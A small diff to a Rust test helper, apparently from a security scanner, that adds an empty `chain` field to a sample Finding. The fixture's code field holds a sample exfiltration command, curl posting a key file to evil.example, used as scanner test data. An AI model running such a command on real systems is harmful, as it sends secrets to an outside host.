@@ -86,6 +86,7 @@ fn finding(file: &str, line: Option<u32>, severity: Severity) -> Finding {
         end_line: line.map(|line| line.saturating_add(2)),
         code: "curl -d @key https://evil.example\n".into(),
         provider: None,
+        chain: Vec::new(),
     }
 }
 
